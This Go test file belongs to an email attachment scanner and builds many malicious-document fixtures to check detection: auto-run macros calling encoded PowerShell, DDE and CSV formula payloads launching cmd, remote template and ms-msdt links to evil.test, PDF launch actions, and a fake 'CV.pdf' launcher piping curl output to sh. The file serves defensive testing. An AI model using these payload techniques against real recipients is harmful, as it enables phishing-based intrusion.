package document

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/milterscan/milterscan/scan"
	"github.com/milterscan/milterscan/scan/scantest"
)

func newScanner(t testing.TB, c Config) *Scanner {
	t.Helper()
	s, err := New(c)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestContract(t *testing.T) {
	scantest.Run(t, newScanner(t, DefaultConfig()), Catalogue()...)
}

// mailWith opens a mail with one attachment, as the daemon does.
func mailWith(t testing.TB, name string, data []byte) *scan.Message {
	t.Helper()
	text := base64.StdEncoding.EncodeToString(data)
	var b strings.Builder
	fmt.Fprintf(&b, "Subject: file\r\nMIME-Version: 1.0\r\nContent-Type: application/octet-stream\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=%q\r\n\r\n", name)
	for line := range slices.Chunk([]byte(text), 76) {
		b.Write(line)
		b.WriteString("\r\n")
	}
	m := scantest.Open(t, []byte(b.String()))
	t.Cleanup(func() { m.Close() })
	return m
}

// findings scans a file in a mail and returns what is found, by rule.
func findings(t testing.TB, name string, data []byte) map[string]string {
	t.Helper()
	s := newScanner(t, DefaultConfig())
	m := mailWith(t, name, data)
	found, err := scantest.Scan(t, t.Context(), s, m)
	if err != nil {
		t.Errorf("%s: %v", name, err)
	}
	scantest.Check(t, s, m, found, Catalogue()...)
	by := map[string]string{}
	for _, f := range found {
		by[strings.TrimPrefix(f.Rule, "attachment/")] = m.PathOf(f) + ": " + f.Detail
	}
	return by
}

// zipped makes a zip of names and contents in turn.
func zipped(t testing.TB, pairs ...string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for i := 0; i < len(pairs); i += 2 {
		f, err := w.Create(pairs[i])
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(f, pairs[i+1])
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

const (
	wordRoot = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>`
	relRoot  = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`
	relType  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
)

// docx is one with that in its body.
func docx(t testing.TB, body string, more ...string) []byte {
	return zipped(t, append([]string{
		"[Content_Types].xml", `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>`,
		"word/document.xml", wordRoot + body + `</w:body></w:document>`,
	}, more...)...)
}

// related is a docx with one relationship.
func related(t testing.TB, kind, target string) []byte {
	return docx(t, "", "word/_rels/settings.xml.rels", relRoot+`<Relationship Id="rId1" Type="`+relType+kind+`" Target="`+target+`" TargetMode="External"/></Relationships>`)
}

// macros is a macro project in a compound file.
func macros(modules ...vbaModule) []byte { return compoundFile(vbaProject("VBA", modules...)...) }

func autoOpen(code string) vbaModule {
	return vbaModule{name: "ThisDocument", source: "Sub AutoOpen()\r\n" + code + "\r\nEnd Sub\r\n", lines: 3}
}

const shell = `x = Shell("powershell -enc AAAA", 0)`

// cutTail is a zip without its directory, as Word repairs it.
func cutTail(b []byte) []byte { return b[:bytes.Index(b, []byte("PK\x01\x02"))] }

func utf16le(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return string(b)
}

// nativePackage is an object package with a file in it.
func nativePackage(name, data string) []byte {
	var b []byte
	b = append(b, 2, 0)
	b = append(b, name+"\x00C:\\tmp\\"+name+"\x00\x00\x00\x03\x00"...)
	temp := "C:\\tmp\\" + name + "\x00"
	b = binary.LittleEndian.AppendUint32(b, uint32(len(temp)))
	b = append(b, temp...)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(data)))
	b = append(b, data...)
	return append(binary.LittleEndian.AppendUint32(nil, uint32(len(b))), b...)
}

// bad are documents that act, with the rule that must find each.
func bad(t testing.TB) map[string]struct {
	file, rule string
	data       []byte
} {
	type c = struct {
		file, rule string
		data       []byte
	}
	program := "MZ" + strings.Repeat("\x90\x00", 200)
	fields := func(runs ...string) string {
		b := `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>`
		for _, r := range runs {
			b += `<w:r><w:instrText xml:space="preserve">` + r + `</w:instrText></w:r>`
		}
		return b + `<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
	}
	workbook := func(records ...string) []byte {
		return compoundFile(streamData{"Workbook", []byte("\x09\x08\x10\x00\x00\x06\x05\x00" + strings.Repeat("\x00", 12) + strings.Join(records, "") + "\x0a\x00\x00\x00")})
	}
	return map[string]c{
		"docm that runs by itself": {"a.docm", "macro-autorun", docx(t, "", "word/vbaProject.bin", string(macros(autoOpen(shell))))},
		"doc that runs by itself":  {"a.doc", "macro-autorun", compoundFile(append(vbaProject("Macros/VBA", autoOpen(shell)), streamData{"WordDocument", []byte("\xec\xa5")})...)},
		"macros under any name":    {"a.docx", "macro-autorun", docx(t, "", "word/printerSettings.dat", string(macros(autoOpen(shell))))},
		"damaged end of docm":      {"a.docm", "macro-autorun", cutTail(docx(t, "", "word/vbaProject.bin", string(macros(autoOpen(shell)))))},
		"project without a list":   {"a.bin", "macro-autorun", compoundFile(vbaProject("VBA", autoOpen(shell))[:2]...)},
		"two hints":                {"a.bin", "macro-autorun", macros(autoOpen("Kill f\r\nSetAttr f, 2"))},
		"damaged compound file":    {"a.doc", "macro-autorun", damaged(macros(autoOpen(shell)))},
		"runs by itself, harmless": {"a.xlsm", "macro-autostart", macros(autoOpen(`MsgBox "Hello"`))},
		"macro":                    {"a.xlsm", "macro", macros(vbaModule{"Module1", "Sub Total()\r\nCells(1, 1) = 2\r\nEnd Sub\r\n", 3})},
		"stomped":                  {"a.doc", "macro-stomped", macros(vbaModule{"ThisDocument", "", 5})},
		"Word 2003 XML":            {"a.xml", "macro-autorun", []byte(`<?xml version="1.0"?><w:wordDocument xmlns:w="x"><w:docSuppData><w:binData w:name="editdata.mso">` + base64.StdEncoding.EncodeToString(activeMime(macros(autoOpen(shell)))) + `</w:binData></w:docSuppData></w:wordDocument>`)},
		"flat OPC":                 {"a.xml", "macro-autorun", []byte(`<?xml version="1.0"?><pkg:package xmlns:pkg="x"><pkg:part pkg:name="/word/vbaProject.bin"><pkg:binaryData>` + base64.StdEncoding.EncodeToString(macros(autoOpen(shell))) + `</pkg:binaryData></pkg:part></pkg:package>`)},
		"editdata.mso":             {"editdata.mso", "macro-autorun", activeMime(macros(autoOpen(shell)))},
		"Visio":                    {"a.vsdm", "macro-autorun", eventOf("ThisDocument", "Document_DocumentOpened", shell)},
		"Project":                  {"a.mpp", "macro-autorun", eventOf("ThisProject", "Project_Open", shell)},
		"Outlook":                  {"a.otm", "macro-autorun", eventOf("ThisOutlookSession", "Application_Startup", shell)},
		"Access":                   {"a.accdb.bin", "macro-autorun", eventOf("Form_Start", "Form_Load", shell)},
		"slides":                   {"a.pptm", "macro-autorun", eventOf("Module1", "Auto_ShowBegin", shell)},
		"any Visio":                {"a.vsdm", "macro-autorun", eventOf("Class1", "v_DocumentOpened", shell)},
		"add-in of elsewhere":      {"a.xlsx", "remote-template", assemblyAt(t, "_AssemblyLocation", "https://x.example.net/a.vsto|00000000|vstolocal")},
		"add-in in two pieces":     {"a.docx", "remote-template", assemblyAt(t, "_AssemblyLocation0", "https://x.example.net/a.vsto")},
		"add-in of a share":        {"a.docx", "remote-template", assemblyAt(t, "_AssemblyLocation", "\\\\x.example.net\\a\\a.vsto|1")},
		"add-in of an old file":    {"a.doc", "remote-template", compoundFile(streamData{"\x05DocumentSummaryInformation", []byte("\xfe\xff\x00\x00 \x12\x00\x00\x00_AssemblyLocation\x00 https://x.example.net/a.vsto|1\x00")})},
		"menus of elsewhere":       {"a.xlsx", "remote-template", zipped(t, "customUI/customUI.xml", `<customUI onLoad="https://x.example.net/a.xlsm!run"/>`)},
		"button of elsewhere":      {"a.xlsx", "remote-template", zipped(t, "customUI/customUI14.xml", `<customUI><ribbon><tabs><tab id="t"><group id="g"><button id="b" onAction="'\\x.example.net\a\a.xlsm'!run"/></group></tab></tabs></ribbon></customUI>`)},
		"menus that call a macro": {"a.xlsm", "macro-autorun", zipped(t, "customUI/customUI.xml", `<customUI onLoad="Project.Loaded"/>`,
			"xl/vbaProject.bin", string(macros(vbaModule{"Module1", "Sub Loaded(r)\r\n" + shell + "\r\nEnd Sub\r\n", 3})))},
		"Basic of LibreOffice": {"a.odt", "macro-autorun", zipped(t, "content.xml", `<office:document-content xmlns:office="o" xmlns:script="s" xmlns:xlink="x"><office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/></office:event-listeners></office:scripts></office:document-content>`,
			"Basic/Standard/Module1.xml", `<script:module xmlns:script="s" script:name="Module1">Sub Main&#10;Shell("x")&#10;End Sub</script:module>`)},
		"Python in ODF": {"a.odt", "macro-autorun", zipped(t, "content.xml", `<office:document-content xmlns:script="s" xmlns:xlink="x"><script:event-listener script:event-name="office:load" xlink:href="vnd.sun.star.script:x.py$go?language=Python&amp;location=document"/></office:document-content>`)},

		"macro sheet":              {"a.xlsm", "macro-xlm", zipped(t, "xl/macrosheets/sheet1.xml", `<xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"/>`)},
		"macro sheet of an xlsb":   {"a.xlsb", "macro-xlm", zipped(t, "xl/_rels/workbook.bin.rels", relRoot+`<Relationship Id="r1" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="macrosheets/sheet1.bin"/></Relationships>`)},
		"hidden macro sheet":       {"a.xls", "macro-xlm", workbook("\x85\x00\x0e\x00\x00\x01\x00\x00\x02\x01\x06\x00Macro1")},
		"macro by a reserved name": {"a.xls", "macro-xlm", workbook("\x18\x00\x10\x00\x20\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01")},
		"workbook of Excel 4":      {"a.xls", "macro-xlm", []byte("\x09\x04\x06\x00\x00\x00\x40\x00\x00\x00")},
		"SYLK":                     {"a.slk", "macro-xlm", []byte("ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\n")},

		"field in runs":      {"a.docx", "dde", docx(t, fields(" DD", "EAU", "TO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" "))},
		"field in one piece": {"a.docx", "dde", docx(t, `<w:fldSimple w:instr='DDE "cmd" "/c calc"'/>`)},
		"field spelled":      {"a.docx", "dde", docx(t, `<w:r><w:fldChar w:fldCharType="begin"/><w:instrText> </w:instrText>`+fields(" QUOTE 68 68 69 65 85 84 79 32")+`<w:instrText>c:\x</w:instrText><w:fldChar w:fldCharType="end"/></w:r>`)},
		"field in UTF-16":    {"a.docx", "dde", zipped(t, "word/document.xml", "\xff\xfe"+utf16le(`<?xml version="1.0" encoding="UTF-16"?><document><fldSimple instr="DDEAUTO c:\x"/></document>`))},
		"field in doc":       {"a.doc", "dde", compoundFile(streamData{"WordDocument", []byte("\xec\xa5" + strings.Repeat("\x00", 600) + "\x13 DDEAUTO c:\\\\windows\\\\cmd.exe \x14\x15")})},
		"wide field in doc":  {"a.doc", "dde", compoundFile(streamData{"WordDocument", []byte("\xec\xa5" + strings.Repeat("\x00", 600) + utf16le("\x13 DDE cmd \x14\x15"))})},
		"field in RTF":       {"a.rtf", "dde", []byte(`{\rtf1{\field{\*\fldinst {\b DD}EAUTO c:\\windows\\cmd.exe}{\fldrslt x}}}`)},
		"formula in CSV":     {"a.csv", "dde", []byte("Name,Amount\r\nx,=cmd|' /C calc'!A0\r\n")},
		"hidden formula":     {"a.csv", "dde", []byte("a,\"@SUM(1+1)*cmd|' /C calc'!A0\"\r\n")},
		"link in xlsx":       {"a.xlsx", "dde", zipped(t, "xl/externalLinks/externalLink1.xml", `<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>`)},
		"link in xls":        {"a.xls", "dde", workbook("\xae\x01\x0e\x00\x01\x00\x0a\x00\x00cmd\x03/c calc"[:18])},
		"link in xlsb":       {"a.xlsb", "dde", zipped(t, "xl/externalLinks/externalLink1.bin", "\xe8\x02\x22\x01\x00\x03\x00\x00\x00"+utf16le("cmd")+"\x07\x00\x00\x00"+utf16le("/c calc"))},
		"link in ods":        {"a.ods", "dde", zipped(t, "content.xml", `<office:document-content xmlns:office="o"><office:dde-source office:dde-application="cmd" office:dde-topic="/c calc"/></office:document-content>`)},

		"template":                 {"a.docx", "remote-template", related(t, "attachedTemplate", "https://evil.test/t.dotm")},
		"template behind entities": {"a.docx", "remote-template", related(t, "attachedTemplate", "h&#116;tp://evil.test/t")},
		"template on a share":      {"a.docx", "remote-template", related(t, "attachedTemplate", `file:///\\203.0.113.5\t\t.dotx`)},
		"template over WebDAV":     {"a.docx", "remote-template", related(t, "attachedTemplate", `\\evil.test@SSL@443\t`)},
		"object":                   {"a.docx", "remote-template", related(t, "oleObject", "mhtml:http://evil.test/x!x-usc:http://evil.test/x")},
		"frame":                    {"a.docx", "remote-template", related(t, "frame", "//evil.test/x")},
		"picture by a handler":     {"a.docx", "remote-template", related(t, "image", "ms-msdt:/id PCWDiagnostic")},
		"frame in odt":             {"a.odt", "remote-template", zipped(t, "content.xml", `<office:document-content xmlns:d="d"><d:floating-frame xlink:href="https://evil.test/"/></office:document-content>`)},
		"field that loads":         {"a.docx", "remote-template", docx(t, fields(` INCLUDETEXT "https://evil.test/x" `))},
		"template of a doc":        {"a.doc", "remote-template", templateDoc("https://evil.test/t.dot")},
		"linked object":            {"a.doc", "remote-template", compoundFile(streamData{"ObjectPool/_1/\x01Ole", []byte(strings.Repeat("\x00", 16) + urlMoniker + "\x40\x00\x00\x00" + utf16le("http://evil.test/x.hta\x00"))})},
		"template in RTF":          {"a.rtf", "remote-template", []byte(`{\rtf1{\*\template \u104?ttp://evil.test/t}}`)},

		"package with a program":   {"a.doc", "ole-package", compoundFile(streamData{"ObjectPool/_1/\x01Ole10Native", nativePackage("invoice.exe", program)})},
		"package, renamed program": {"a.xls", "ole-package", compoundFile(streamData{"\x01Ole10Native", nativePackage("invoice.txt", program)})},
		"package in a docx":        {"a.docx", "ole-package", docx(t, "", "word/embeddings/oleObject1.bin", string(compoundFile(streamData{"\x01Ole10Native", nativePackage("a.js", "var x")})))},
		"package in RTF":           {"a.rtf", "ole-package", rtfWith("Package", nativePackage("a.vbs", "x")[4:])},
		"equation that overruns":   {"a.doc", "equation-exploit", compoundFile(streamData{"Equation Native", equationWith(strings.Repeat("A", 60))})},
		"equation in RTF":          {"a.rtf", "rtf-object", rtfWith("Equation.3", equationWith("Times"))},
		"object that updates":      {"a.rtf", "rtf-object", []byte(`{\rtf1{\object\objautlink\objupdate{\*\objdata 0105}}}`)},
		"object cut up":            {"a.rtf", "rtf-object", []byte(`{\rt{\object{\*\objdata 01{\x}05{\y}00{\z}00\par02}}}`)},

		"PDF with a script":        {"a.pdf", "pdf-javascript", pdfOf("<< /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>")},
		"PDF with escaped names":   {"a.pdf", "pdf-javascript", pdfOf("<< /S /J#61vaScript /J#53 2 0 R >>")},
		"PDF in object streams":    {"a.pdf", "pdf-launch", pdfOf(objectStream("<< /S /Launch /F (cmd.exe) >>"))},
		"PDF, named by reference":  {"a.pdf", "pdf-launch", pdfOf("<< /S 2 0 R /F (cmd.exe) >>", "/Launch")},
		"PDF with vertical tabs":   {"a.pdf", "pdf-launch", pdfOf("<< /S\v/Launch\v/F (cmd.exe) >>")},
		"PDF with filters apart":   {"a.pdf", "pdf-launch", pdfOf("<< /N 1 /First 4 /Filter 2 0 R >> stream\n"+hex.EncodeToString([]byte("5 0 << /S /Launch /F (x) >>"))+">\nendstream", "[ /AHx ]")},
		"PDF that launches":        {"a.pdf", "pdf-launch", pdfOf("<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>")},
		"PDF within a comment":     {"a.pdf", "pdf-launch", []byte("%PDF-1.4\n%9 0 obj << /S /Launch /F (x) >> endobj\n")},
		"PDF within a string":      {"a.pdf", "pdf-launch", []byte("%PDF-1.4\n1 0 obj ( endobj 9 0 obj << /S /Launch /F (x) >> endobj\n")},
		"PDF that opens a site":    {"a.pdf", "pdf-action", pdfOf("<< /OpenAction 2 0 R >>", "<< /S /URI /URI (https://evil.test/) >>")},
		"PDF that goes to a share": {"a.pdf", "pdf-action", pdfOf("<< /AA << /O << /S /GoToE /F (\\\\\\\\203.0.113.5\\\\s) >> >> >>")},
		"PDF that sends a form":    {"a.pdf", "pdf-action", pdfOf("<< /S /SubmitForm /F << /FS /URL /F (https://evil.test/) >> >>")},
		"PDF with a file":          {"a.pdf", "pdf-embedded", pdfOf("<< /Type /Filespec /F (a.doc) /EF << /F 2 0 R >> >>")},
		"PDF with XFA":             {"a.pdf", "pdf-form", pdfOf("<< /XFA [ (template) 2 0 R ] >>")},
		"PDF with a script in XFA": {"a.pdf", "pdf-javascript", pdfOf("<< /XFA 2 0 R >>", "<< /Length 40 >> stream\n<template><script contentType='x'>\nendstream")},
		"form data with a script":  {"a.fdf", "pdf-javascript", []byte("%FDF-1.2\n1 0 obj\n<< /FDF << /JavaScript << /Doc [ (x) (app.alert\\(1\\)) ] /After (app.alert\\(1\\)) >> >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")},
		"form data after a mark":   {"a.fdf", "pdf-javascript", []byte("\xef\xbb\xbf\r\n%FDF-1.2\n1 0 obj\n<< /FDF << /JavaScript << /After (app.alert\\(1\\)) >> >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")},
		"form data that launches":  {"a.dat", "pdf-launch", []byte("%FDF-1.2\n1 0 obj\n<< /FDF << /Fields [ << /A << /S /Launch /F (cmd.exe) >> >> ] >> >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")},
		"encrypted PDF":            {"a.pdf", "pdf-encrypted", []byte("%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R /Encrypt 2 0 R >>\n")},
		"PDF behind junk":          {"a.pdf", "pdf-launch", append(bytes.Repeat([]byte("x"), 900), pdfOf("<< /S /Launch /F (x) >>")...)},
		"filters, 50 deep":         {"a.pdf", "too-complex", pdfOf("<< /Type /ObjStm /N 1 /First 4 /Length 5 /Filter [ " + strings.Repeat("/AHx ", 50) + "] >> stream\n31320>\nendstream")},
		"objects, 5000 deep":       {"a.pdf", "too-complex", pdfOf(strings.Repeat("<< /A ", 5000))},

		"note with a program":              {"a.one", "onenote-embedded", oneNoteWith(program)},
		"note with a script":               {"a.one", "onenote-embedded", oneNoteWith("<hta:application><script>")},
		"shortcut to PowerShell":           {"a.lnk", "shortcut-command", shellLinkTo(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "-w hidden iwr http://evil.test", "")},
		"shortcut by arguments":            {"a.lnk", "shortcut-command", shellLinkTo(`C:\Windows\explorer.exe`, `\\203.0.113.5\s\x.exe`, "")},
		"shortcut, long":                   {"a.lnk", "shortcut-command", shellLinkTo(`C:\a.exe`, strings.Repeat("x", 400), "")},
		"shortcut with an icon":            {"a.lnk", "remote-shortcut", shellLinkTo(`C:\a.txt`, "", `\\203.0.113.5\s\i.ico`)},
		"Internet shortcut":                {"a.url", "remote-shortcut", []byte("[InternetShortcut]\r\nURL=file://203.0.113.5@80/s/x.exe\r\n")},
		"its icon":                         {"a.url", "remote-shortcut", []byte("[InternetShortcut]\r\nURL=https://example.com/\r\nIconFile=\\\\203.0.113.5\\s\\i.ico\r\n")},
		"its program":                      {"a.url", "shortcut-command", []byte("[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n")},
		"launcher that fetches":            {"CV.pdf.desktop", "shortcut-command", []byte("[Desktop Entry]\nType=Application\nName=CV.pdf\nExec=sh -c \"curl http://198.51.100.7/x|sh\"\n")},
		"launcher under another name":      {"notes", "shortcut-command", []byte("# x\n[Desktop Entry]\nType=Application\nExec = /tmp/.x\n")},
		"launcher shown as a document":     {"a.desktop", "shortcut-command", []byte("[Desktop Entry]\nName[de]=Rechnung.pdf\nExec=bash -c ./.run\n")},
		"launcher of a share":              {"a.desktop", "remote-shortcut", []byte("[Desktop Entry]\nType=Link\nURL=smb://203.0.113.5/s\n")},
		"library":                          {"a.library-ms", "remote-shortcut", []byte(`<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\203.0.113.5\s</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>`)},
		"search connector":                 {"a.searchConnector-ms", "remote-shortcut", []byte(`<searchConnectorDescription><simpleLocation><url>https://evil.test/dav</url></simpleLocation></searchConnectorDescription>`)},
		"SVG with a script":                {"a.svg", "svg-script", []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)},
		"SVG with a handler":               {"a.svg", "svg-script", []byte(`<?xml version="1.0"?><svg onload="go()"/>`)},
		"SVG with a handler, never closed": {"a.svg", "svg-script", []byte("<svg onload='alert(1)'>")},
		"SVG with a form":                  {"a.svg", "svg-script", []byte("<svg><foreignObject><form/></foreignObject></svg>")},
		"SVG with a redirect":              {"a.svg", "svg-script", []byte("<svg><foreignObject><meta http-equiv='refresh' content='0;url=http://x.test'/></foreignObject></svg>")},
		"SVG in a namespace":               {"a.svg", "svg-script", []byte("<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>alert(1)</s:script></s:svg>")},
		"SVG with an address":              {"a.svg", "svg-script", []byte("<svg><a xlink:href=\" java\nscript:go()\"/></svg>")},
		"SVG with a page":                  {"a.svg", "svg-script", []byte(`<svg><foreignObject><h:iframe xmlns:h="x" src="https://evil.test"/></foreignObject></svg>`)},
		"script in XML":                    {"a.xml", "svg-script", []byte(`<?xml version="1.0"?><report><title>Q3</title><script xmlns="http://www.w3.org/1999/xhtml">x()</script></report>`)},
		"script in XML, by a prefix":       {"a.xml", "svg-script", []byte(`<report xmlns:h=' http://www.w3.org/1999/xhtml'><h:script>x()</h:script></report>`)},
		"script in XML, escaped":           {"a.dat", "svg-script", []byte(`<report xmlns:h="http&#58;//www.w3.org/1999/xhtml"><h:script src="x"/></report>`)},
		"script of pictures in XML":        {"a.xml", "svg-script", []byte(`<theme><script xmlns="http://www.w3.org/2000/svg">x()</script></theme>`)},
		"script in XML by an entity":       {"a.xml", "svg-script", []byte(`<!DOCTYPE a [<!ENTITY x "<script xmlns='http://www.w3.org/1999/xhtml'>x()</script>">]><a>&x;</a>`)},
		"namespace by an entity":           {"a.xml", "svg-script", []byte(`<!DOCTYPE a [<!ENTITY n "http://www.w3.org/1999/xhtml">]><a xmlns:h="&n;"><h:script>x()</h:script></a>`)},
		"namespace with an entity in it":   {"a.xml", "svg-script", []byte(`<!DOCTYPE a [<!ENTITY n "w3.org">]><a><script xmlns="http://www.&n;/1999/xhtml">x()</script></a>`)},
		"script in XML, inside":            {"a.xml", "svg-script", []byte(`<a xmlns="urn:a"><b xmlns="http://www.w3.org/1999/xhtml"><c xmlns="urn:c"><d/></c><script/></b></a>`)},
		"handler in XML":                   {"a.xml", "svg-script", []byte(`<a xmlns:h="http://www.w3.org/1999/xhtml"><h:img src="x" onerror="x()"/></a>`)},
		"script in UTF-16 XML":             {"a.xml", "svg-script", utf16XML(`<a><script xmlns="http://www.w3.org/1999/xhtml">x()</script></a>`)},
		"SVG by an entity":                 {"a.svg", "svg-script", []byte(`<!DOCTYPE svg [<!ENTITY x "<script>alert(1)</script>">]><svg>&x;</svg>`)},
	}
}

func TestWhatActsIsFound(t *testing.T) {
	for name, c := range bad(t) {
		t.Run(name, func(t *testing.T) {
			found := findings(t, c.file, c.data)
			if _, ok := found[c.rule]; !ok {
				t.Errorf("found %v, want %s", found, c.rule)
			}
			t.Log(c.rule, found[c.rule])
		})
	}
}

// eventOf is a project with a procedure that does something.
func eventOf(module, procedure, body string) []byte {
	return macros(vbaModule{module, "Private Sub " + procedure + "(ByVal x As Object)\r\n" + body + "\r\nEnd Sub\r\n", 3})
}

// assemblyAt is a document with a property of that name and value.
func assemblyAt(t testing.TB, name, value string) []byte {
	return zipped(t, "docProps/custom.xml", `<Properties xmlns="x" xmlns:vt="y"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="`+name+`"><vt:lpwstr>`+value+`</vt:lpwstr></property></Properties>`)
}

// ordinary are documents in which nothing may be found.
func ordinary(t testing.TB) map[string][]byte {
	field := func(code string) string { return `<w:fldSimple w:instr="` + code + `"/>` }
	return map[string][]byte{
		"add-in.xlsx":      assemblyAt(t, "_AssemblyLocation", "00000000-0000-0000-0000-000000000000|vstolocal"),
		"add-in.docx":      assemblyAt(t, "_AssemblyLocation", "file:///C:/Program Files/App/a.vsto|1"),
		"property.docx":    assemblyAt(t, "Homepage", "https://www.example.org/"),
		"menus.xlsx":       zipped(t, "customUI/customUI.xml", `<customUI onLoad="RibbonLoaded"><ribbon><button id="b" onAction="Module1.Go" label="Go! https://www.example.org/"/></ribbon></customUI>`),
		"summary.doc":      compoundFile(streamData{"\x05DocumentSummaryInformation", []byte("\xfe\xff\x00\x00 _PID_HLINKS\x00 https://www.example.org/\x00")}),
		"links.docx":       related(t, "hyperlink", "https://example.com/a?b=c"),
		"share.docx":       related(t, "hyperlink", "file:///\\\\server\\share\\a.docx"),
		"template.docx":    related(t, "attachedTemplate", "file:///C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"),
		"inside.docx":      related(t, "image", "/word/media/image1.png"),
		"above.docx":       related(t, "customXml", "../customXml/item1.xml"),
		"fields.docx":      docx(t, field(" PAGE \\* MERGEFORMAT ")+field(" HYPERLINK &quot;https://example.com&quot; ")+field(" TOC \\o &quot;1-3&quot; ")+field(" DDEX ")+field(" INCLUDEPICTURE &quot;C:\\a.png&quot; ")),
		"empty.xlsm":       macros(vbaModule{"ThisWorkbook", "", 0}, vbaModule{"Sheet1", "\r\n", 0}),
		"names.xls":        compoundFile(streamData{"Workbook", []byte("\x09\x08\x04\x00\x00\x06\x05\x00\x85\x00\x0e\x00\x00\x01\x00\x00\x00\x00\x06\x00Sheet1")}),
		"clicks.odt":       zipped(t, "content.xml", `<office:document-content xmlns:script="s"><script:event-listener script:event-name="form:performaction" xlink:href="vnd.sun.star.script:a"/></office:document-content>`),
		"pages.pdf":        pdfOf("<< /Type /Catalog /OpenAction [ 2 0 R /XYZ null null 0 ] >>", "<< /S /GoTo /D [ 3 0 R /Fit ] >>", "<< /Subtype /Link /A << /S /URI /URI (https://example.com/) >> >>", "<< /Type /StructElem /S /P >>"),
		"fields.pdf":       pdfOf("<< /AA << /F << /S /JavaScript /JS (AFNumber_Format\\(2, 0, 0, 0, \"\", true\\);) >> /K 2 0 R >> >>", "<< /S /JavaScript /JS 3 0 R >>", "(AFDate_KeystrokeEx\\(\"dd.mm.yyyy\"\\))"),
		"chapters.pdf":     pdfOf("<< /OpenAction << /S /GoTo >> /A << /S /GoToR /F (chapter2.pdf) >> >>", "<< /S /URI /URI (mailto:a@example.com) >>"),
		"streams.pdf":      pdfOf(objectStream("<< /Type /Page /Parent 1 0 R >>")),
		"text.rtf":         []byte(`{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\field{\*\fldinst{HYPERLINK "https://example.com"}}{\fldrslt x}}{\pict\pngblip 89504e47}{\*\template C:\\a.dot}\bin3 \{{{}`),
		"site.url":         []byte("[InternetShortcut]\r\nURL=https://example.com/a.exe\r\nIconFile=https.ico\r\n"),
		"app.lnk":          shellLinkTo(`C:\Program Files\App\app.exe`, "--new-window", `%SystemRoot%\a.ico`),
		"known.library-ms": []byte(`<libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library"><simpleLocation><url>knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}</url></simpleLocation></libraryDescription>`),
		"diagram.svg":      []byte(`<svg xmlns="http://www.w3.org/2000/svg"><switch><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">a label</div></foreignObject></switch></svg>`),
		"picture.svg":      []byte(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY ns "http://ns.adobe.com/">]><svg xmlns:x="&ns;"><style>a{}</style><a href="https://example.com"><path d="M0 0" onto="x"/></a></svg>`),
		"pipes.csv":        []byte("a|b|c\r\n=SUM(A1)|cmd|x!\r\n-12|+49 30|@home\r\ncmd|'x'!A0\r\n"),
		"manual.txt":       []byte("Run - cat a | cmd 'x'!\n- ps | grep 'a'\n"),
		"notes.one":        oneNoteWith("\x89PNG\r\n\x1a\n"),
		"table.slk":        []byte("ID;PSCALC3\r\nO;L;D\r\nC;X1;Y1;K\"E\"\r\n"),
	}
}

func TestOrdinaryDocumentsAreSilent(t *testing.T) {
	for name, data := range ordinary(t) {
		if found := findings(t, name, data); len(found) > 0 {
			t.Errorf("%s: found %v", name, found)
		}
	}
}

// TestSamplesAreJudged scans files that other programs wrote; testdata/README
// says which.
func TestSamplesAreJudged(t *testing.T) {
	want := map[string]string{"macro.odt": "macro-autorun", "macro.xls": "macro-autorun"}
	files, err := filepath.Glob("testdata/*.*")
	if err != nil || len(files) == 0 {
		t.Fatal("no samples", err)
	}
	for _, file := range files {
		data, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		name := filepath.Base(file)
		found := findings(t, name, data)
